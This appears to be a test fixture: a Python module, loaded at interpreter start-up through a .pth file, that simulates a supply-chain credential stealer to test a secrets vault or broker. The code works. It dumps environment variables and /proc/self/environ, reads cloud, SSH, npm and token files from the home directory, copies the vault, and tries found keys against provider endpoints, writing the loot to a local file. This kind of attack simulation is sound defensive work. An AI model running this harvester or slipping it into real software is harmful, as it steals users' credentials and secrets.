# The seed attack: imported by a .pth file at interpreter start-up, before any application code.
# It collects what a credential stealer collects (the environment, /proc/self/environ, the home
# directory's credential files, a copy of the vault directory), tries every key-shaped value it
# found against the provider and the broker, and writes its loot to HARVEST_OUT for the test.
import glob, json, os, shutil, urllib.request

def _harvest(out):
    loot = {"env": dict(os.environ), "files": {}, "tried": []}
    with open("/proc/self/environ", "rb") as f:
        loot["proc_environ"] = f.read().decode("latin1")
    home = os.path.expanduser("~")
    for pattern in [".aws/*", ".ssh/*", ".config/**", ".netrc", ".npmrc", ".env", ".agent-vault/**", "**/*.token", "**/*.key"]:
        for path in glob.glob(os.path.join(home, pattern), recursive=True):
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                with open(path, "rb") as f:
                    loot["files"][path] = f.read().decode("latin1")
    vault = os.path.join(home, ".agent-vault")
    if os.path.isdir(vault):
        shutil.copytree(vault, out + ".vault")
        loot["vault_copy"] = out + ".vault"
    targets = [os.environ.get("OPENAI_BASE_URL"), os.environ.get("PROVIDER_ORIGIN", "") + "/v1"]
    for name, value in os.environ.items():
        if not (name.endswith("_KEY") or name.endswith("TOKEN")):
            continue
        for base in filter(None, targets):
            request = urllib.request.Request(base + "/models", headers={"Authorization": "Bearer " + value})
            try:
                status = urllib.request.urlopen(request, timeout=5).status
            except urllib.error.HTTPError as error:
                status = error.code
            except Exception as error:
                status = repr(error)
            loot["tried"].append({"name": name, "value": value, "base": base, "status": status})
    with open(out, "w") as f:
        json.dump(loot, f)

_out = os.environ.get("HARVEST_OUT")
if _out and not os.path.exists(_out):
    _harvest(_out)
